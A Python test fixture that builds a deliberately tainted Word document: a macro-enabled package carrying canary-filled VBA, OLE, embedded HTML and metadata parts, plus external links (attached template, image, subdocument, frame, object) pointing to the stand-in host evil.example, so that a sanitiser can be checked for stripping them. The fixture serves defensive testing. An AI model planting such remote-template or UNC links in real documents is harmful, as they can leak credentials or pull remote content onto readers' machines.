"""Word files that an office might name as its style base, with everything in them that must not travel on."""

from __future__ import annotations

import io
import zipfile

from briefer.data import templates_folder

OFFICE = "application/vnd.openxmlformats-officedocument"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CANARY = "Canary-7391"
"""Stands in every part that has to stay behind."""

FOREIGN_PARTS = {
    "word/vbaProject.bin": ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
    "word/embeddings/oleObject1.bin": (f"{RELATION}/oleObject", "embeddings/oleObject1.bin"),
    "word/afchunk1.html": (f"{RELATION}/aFChunk", "afchunk1.html"),
    "customXml/item1.xml": (f"{RELATION}/customXml", "../customXml/item1.xml"),
    "word/comments.xml": (f"{RELATION}/comments", "comments.xml"),
    "word/media/image1.png": (f"{RELATION}/image", "media/image1.png"),
    "word/header9.xml": (f"{RELATION}/header", "header9.xml"),
    "word/glossary/document.xml": (f"{RELATION}/glossaryDocument", "glossary/document.xml"),
}
EXTERNAL = (
    ("attachedTemplate", r"file:///\\evil.example\share\office.dotm"),
    ("image", r"\\evil.example\pixel.png"),
    ("subDocument", "http://evil.example/sub.docx"),
    ("frame", "http://evil.example/frame.html"),
    ("oleObject", "http://evil.example/object.bin"),
)


def office_base(**changed: bytes) -> bytes:
    """Return our own base document, filled with macros, objects, links out and names; `changed` replaces parts."""
    with zipfile.ZipFile(templates_folder() / "base.docx") as own:
        parts = {name: own.read(name) for name in own.namelist()}
    parts |= {name: f"<x>{CANARY}</x>".encode() for name in FOREIGN_PARTS}
    rels = "".join(
        f'<Relationship Id="f{number}" Type="{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(FOREIGN_PARTS.values())
    ) + "".join(
        f'<Relationship Id="e{number}" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(EXTERNAL)
    )
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", f"{rels}</Relationships>".encode()
    )
    parts["word/document.xml"] = (
        f'<w:document xmlns:w="{W}" xmlns:r="{RELATION}"><w:body><w:p><w:r><w:t>{CANARY}</w:t></w:r></w:p>'
        '<w:altChunk r:id="f2"/></w:body></w:document>'
    ).encode()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="e0"/></w:settings>'
    ).encode()
    parts["docProps/core.xml"] = f"<x>{CANARY}</x>".encode()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>",
        b'<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:rsid w:val="00A1B2C3"/></w:style></w:styles>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    )
    return zipped(parts | {f"word/{name}.xml": data for name, data in changed.items()})


def zipped(parts: dict[str, bytes]) -> bytes:
    """Return a package of the parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return stream.getvalue()
